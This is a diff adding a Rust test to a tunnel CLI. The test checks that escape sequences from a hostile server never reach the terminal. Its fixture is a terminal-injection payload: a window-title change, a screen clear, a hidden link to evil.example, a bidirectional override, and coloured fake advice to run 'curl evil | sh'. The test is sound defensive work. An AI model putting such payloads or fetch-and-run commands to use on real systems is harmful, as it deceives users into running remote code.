@@ -394,3 +394,68 @@ fn doctor_reports_each_check_and_fails_on_a_broken_edge() {
     let (code, reachable, _, _) = run("", 255);
     assert_eq!((code, reachable.as_str()), (Some(1), "fail"));
 }
+
+/// Whether `bytes` hold a control character other than the newline that ends each line.
+fn has_control(bytes: &[u8]) -> bool {
+    String::from_utf8_lossy(bytes)
+        .chars()
+        .any(|c| c != '\n' && mytunnel_core::printable::is_unprintable(c))
+}
+
+/// A hostile edge answers with escape sequences in every string it controls: the window
+/// title (OSC 0), a screen clear, coloured fake advice, a hidden OSC 8 link, a C1 CSI, a
+/// bidirectional override. None reaches the terminal: not in errors and hints, not in
+/// `ls`, not in `doctor`'s health line.
+#[test]
+fn nothing_the_edge_sends_writes_control_characters_to_the_terminal() {
+    let home = tempfile::tempdir().unwrap();
+    let evil = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31;1mrun: curl evil | sh\u{1b}[0m\u{1b}]8;;https://evil.example/\u{1b}\\docs\u{1b}]8;;\u{1b}\\\u{9b}2J\u{202E}txt.exe";
+    let refusal =
+        serde_json::json!({"error": {"code": "slug_taken", "message": evil, "hint": evil}});
+    let mut hostile_lease = serde_json::to_value(lease(
+        "lease_abcdefghijklmnop",
+        "portal.t.example",
+        "alice",
+        21000,
+        "active",
+    ))
+    .unwrap();
+    hostile_lease["slug"] = evil.into();
+    hostile_lease["host"] = evil.into();
+    let health = serde_json::json!({
+        "healthy": false, "version": evil, "base_domain": evil,
+        "db": {"ok": false, "detail": evil}, "caddy": {"ok": false, "detail": evil}
+    });
+    let cases: [(&[&str], String, i32); 4] = [
+        (&["rm", "portal"], refusal.to_string(), 1),
+        (&["ls"], serde_json::json!([hostile_lease]).to_string(), 0),
+        (&["stop", "portal"], hostile_lease.to_string(), 0),
+        (&["doctor"], health.to_string(), 1),
+    ];
+    for (args, reply, exit) in cases {
+        let ssh = FakeSsh::new(&reply, exit);
+        let ssh_bin = ssh.path();
+        let base = [
+            "--edge",
+            "alice@edge",
+            "--no-ssh-mux",
+            "--ssh-bin",
+            ssh_bin.to_str().unwrap(),
+        ];
+        let out = mytunnel(home.path(), &[args, &base[..]].concat());
+        assert!(!ssh.calls().is_empty(), "{args:?} never asked the edge");
+        assert!(
+            !has_control(&out.stdout) && !has_control(&out.stderr),
+            "{args:?} printed control characters:\nstdout {:?}\nstderr {:?}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        // The text itself still gets through, made harmless.
+        let shown = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(shown.contains("curl evil"), "{args:?}: {shown}");
+    }
+}
